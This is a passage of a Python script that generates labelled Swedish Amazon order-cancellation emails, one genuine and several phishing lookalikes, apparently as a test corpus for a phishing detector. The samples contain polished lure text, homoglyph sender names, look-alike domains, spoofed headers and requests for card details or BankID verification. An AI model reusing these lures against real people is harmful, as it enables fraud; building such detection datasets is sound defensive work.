    items=[("Apple iPad Air 11\" (M2) Wi-Fi 128 GB – rymdgrå", 1, "7 495,00 kr", "Amazon.se")]),
      "non_notice", "sv", None, False, None, "genuine payment reminder, order will be cancelled if not updated; auth pass")

# ---- lookalikes (sv)
label(other(fmt="text", sender=("Amazon Kundtjänst", "amazon.kundtjanst.se@gmail.com"), rcpt=R_SV[0], cte="8bit", bstyle="gmail",
            subject="Avbokning bekräftad – beställning 403-6618203-2291746",
            pre=freemail_headers("gmail.com", "amazon.kundtjanst.se@gmail.com", R_SV[0][3], when()),
            text="Hej,\n\nDin avbokningsbegäran för beställning nr 403-6618203-2291746 har tagits emot och beställningen är nu avbruten.\n\nArtikel: Apple MacBook Pro 14\" M3 Pro, 18 GB, 512 GB\nÅterbetalning: 12 490,00 kr\n\nOm du INTE har begärt avbokningen, ring vår säkerhetsavdelning omedelbart på\n\n     08-502 515 77   (öppet dygnet runt)\n\nså att vi kan stoppa återbetalningen till fel konto.\n\nMed vänliga hälsningar\nAmazon Kundtjänst Sverige\n"),
      "lookalike", "sv", "customer_request", True, None, "callback phone number; gmail sender; claims customer-requested cancellation")

L_DOM = "amazon-se-kundtjanst.com"
pp = ["Hej,",
      "vi har upptäckt misstänkt inloggning på ditt konto. Ditt konto har därför stängts av och din beställning nr 402-5530918-7712064 har avbrutits.",
      "För att återaktivera kontot anger du koden nedan på verifieringssidan och legitimerar dig med BankID.",
      "Din kod: 48 21 90",
      "Om kontot inte verifieras inom 24 timmar raderas det permanent."]
btn = ("Verifiera kontot", "https://%s/se/verifiera?kod=482190" % L_DOM)
label(other(fmt="alt", sender=("Am\u0430zon.se", "sakerhet@" + L_DOM), rcpt=R_SV[1], cte="quoted-printable", bstyle="x",
            subject="Ditt konto har stängts av – beställningen har avbrutits",
            pre=vps_headers(L_DOM, R_SV[1][3], when(), auth="own"),
            text=plain_from_html_paras("Amazon.se", pp, btn, ["© Amazon.se"]),
            html=phish_html("Amazon.se", "Kontot har stängts av", pp, btn, ["© Amazon.se"])),
      "lookalike", "sv", "fraud_prevention", True, None, "Cyrillic homoglyph display name; account suspended + order cancelled + code/BankID")

label(other(fmt="text", sender=("Amazon.se Betalningar", "amazon.se.betalning@hotmail.com"), rcpt=R_SV[2], cte="quoted-printable", charset="iso-8859-1",
            header_charset="iso-8859-1", subject="Betalningen misslyckades – beställning #203-4471-9982013 avbruten", bstyle="outlook",
            pre=freemail_headers("hotmail.com", "amazon.se.betalning@hotmail.com", R_SV[2][3], when()),
            text="Hej kund,\n\nbetalningen för din beställning #203-4471-9982013 kunde inte genomföras och beställningen har därför avbrutits.\n\nFör att återaktivera beställningen, svara på detta mejl med:\n\n- Kortinnehavarens namn\n- Kortnummer (16 siffror)\n- Utgångsdatum\n- CVC-kod (3 siffror på baksidan)\n\nVår handläggare genomför betalningen manuellt inom 2 timmar.\n\nMed vänlig hälsning\nAmazon.se Betalningsavdelningen\n"),
      "lookalike", "sv", "payment_issue", True, None, "reply with card details; hotmail sender; malformed order number; iso-8859-1")

L_DOM = "amazonse-support.help"
fake = lambda target: "https://%s/l/%s" % (L_DOM, hexs(16))
o = order_no("404")
sp = amazon_notice(
    SV, style="card", fmt="alt", sender="order-update@" + L_DOM, rcpt=R_SV[3], auth=False, cte="quoted-printable", order=o, link=fake,
    subject="Din Amazon.se-beställning nr %s har avbrutits" % o, title="Beställningen har avbrutits",
    paras=["Din beställning nr %s flaggades i vår säkerhetsgranskning och har avbrutits." % o,
           "För att häva spärren och få tillbaka 3 299,00 kr måste du verifiera din identitet på [https://www.amazon.se/ap/verify-identity](https://%s/se/id?t=%s) inom 48 timmar." % (L_DOM, hexs(10)),
           "Om du inte verifierar dig kan ditt konto stängas."],
    items=[("Bose QuietComfort Ultra trådlösa hörlurar, svart", 1, "3 299,00 kr", "Amazon.se")],
    button=("Verifiera identitet", "https://%s/se/id?t=%s" % (L_DOM, hexs(10))))
sp["pre_headers"] = vps_headers(L_DOM, R_SV[3][3], sp["date"], auth="own", helo="mx1." + L_DOM)
sp["post_headers"] = []
sp["reply_to"] = None
sp["msgid"] = "<%s@%s>" % (hexs(24), L_DOM)
label(sp, "lookalike", "sv", "fraud_prevention", True, None, "polished copy of Amazon card template; link text amazon.se, href look-alike domain")

L_DOM = "amaz0n-se.net"
label(other(fmt="html", sender=("\u0391mazon.se", "order@" + L_DOM), rcpt=R_SV[4], cte="base64",
            subject="Din förbeställning kan inte levereras",
            pre=vps_headers(L_DOM, R_SV[4][3], when(), auth="none"),
            html=phish_html("Amazon.se", "Förbeställningen har avbrutits",
                            ["Hej,",
                             "tyvärr kan din förbeställning nr 406-1120457-5538201 inte levereras eftersom leverantören inte har tillräckligt många exemplar. Beställningen har avbrutits.",
                             "För att få din återbetalning måste du bekräfta ditt kort via knappen nedan inom 48 timmar."],
                            ("Bekräfta återbetalning", "https://%s/se/refund?o=4061120457" % L_DOM),
                            ["Amazon.se Kundservice"])),
      "lookalike", "sv", "inventory_shortage", True, None, "Greek homoglyph display name; amaz0n domain; pre-order refund lure; html only")

L_DOM = "amazon.se.kundservice-ordrar.top"
pp = ["Hej,",
      "vi kunde inte bekräfta betalningen för din order SE-88213-44.",
      "Din beställning kommer att avbrytas om du inte bekräftar betalningen inom 24 timmar.",
      "Klicka nedan och bekräfta dina kortuppgifter för att behålla beställningen."]
btn = ("Bekräfta betalning", "https://%s/bekrafta" % L_DOM)
label(other(fmt="alt", sender=("Amazon", "kundservice@" + L_DOM), rcpt=R_SV[5], cte="quoted-printable", charset="windows-1252", bstyle="x",
            subject="Åtgärd krävs: din beställning avbryts inom 24 timmar",
            pre=vps_headers("kundservice-ordrar.top", R_SV[5][3], when(), auth="own"),
            text=plain_from_html_paras("Amazon.se", pp, btn, ["Amazon.se"]),
            html=phish_html("Amazon.se", "Betalningen behöver bekräftas", pp, btn, ["Amazon.se"])),
      "lookalike", "sv", "payment_issue", True, None, "amazon.se.evil.tld subdomain; malformed order number; will be cancelled unless act")

label(other(fmt="html", sender=("AMAZON SVERIGE", "amazon.sverige.info@yahoo.com"), rcpt=R_SV[0], cte="8bit",
            subject="DIN ORDER HAR AVBRUTITS!! klicka har",
            pre=freemail_headers("yahoo.com", "amazon.sverige.info@yahoo.com", R_SV[0][3], when(), auth=False),
            html=phish_html("AMAZON", "DIN ORDER HAR AVBRUTITS!!",
                            ["Hej kund", "din order har avbrutits. klicka pa lanken for att fa tillbaka pengarna", "gor det IDAG annars forsvinner pengarna"],
                            ("KLICKA HAR", "http://amzn-aterbetalning.xyz/se"), ["amazon sverige"], crude=True)),
      "lookalike", "sv", "unknown", False, None, "crude; yahoo sender; no order number; no reason; html only 8bit")

L_DOM = "srv-4471.hostvps.eu"
o = order_no("403")
pp = ["Hej,",
      "din beställning nr %s har avbrutits eftersom leveransadressen inte kunde verifieras av transportören." % o,
      "Uppdatera din adress på [https://www.amazon.se/gp/css/account/address](https://amazon-se-adress.com/uppdatera?o=%s) så skickar vi beställningen igen. En avgift på 19 kr tillkommer." % o.replace("-", ""),
      "Om adressen inte uppdateras inom 48 timmar returneras paketet."]
label(other(fmt="alt", sender=("Amazon.se", "order-update@amazon.se"), rcpt=R_SV[1], cte="quoted-printable", bstyle="mailer",
            reply_to="amazon.se.support24@gmail.com", msgid="<%s@%s>" % (hexs(20), L_DOM),
            subject="Din Amazon.se-beställning nr %s har avbrutits" % o,
            pre=vps_headers(L_DOM, R_SV[1][3], when(), auth="spoof:amazon.se", helo=L_DOM),
            text=plain_from_html_paras("Amazon.se", pp, None, ["Amazon.se | Dina beställningar | Ditt konto"]),
            html=phish_html("Amazon.se", "Beställningen har avbrutits", pp, None, ["Amazon.se | Dina beställningar | Ditt konto"])),
      "lookalike", "sv", "unknown", True, None, "spoofed From amazon.se with dmarc=fail; gmail Reply-To; link text amazon.se, href elsewhere; address reason")


# =================================================================== write everything
def main():
    os.makedirs(MAILDIR, exist_ok=True)
    for f in os.listdir(MAILDIR):
        if f.endswith(".eml"):
            os.remove(os.path.join(MAILDIR, f))
    labels = []
    for i, m in enumerate(MAILS):
        name = "%s%03d.eml" % (PREFIX, START + i)
        m = dict(m)
        m["from"] = m.pop("from_")
        m["pre_headers"] = [(k, v.replace("%RCPT%", m["rcpt"])) for k, v in m.get("pre_headers", [])]
        m.setdefault("pre_headers", []).insert(0, ("Delivered-To", m["rcpt"]))
        write(build(m), os.path.join(MAILDIR, name))
        labels.append({"file": name, "kind": m["kind"], "language": m["language"], "cause": m["cause"],
                       "states_reason": m["states_reason"], "marketplace": m["marketplace"], "note": m["note"]})
    with open(os.path.join(HERE, "labels.json"), "w", encoding="utf-8") as f:
        json.dump(labels, f, ensure_ascii=False, indent=1)
        f.write("\n")
    print("wrote %d mails" % len(labels))


if __name__ == "__main__":
    main()
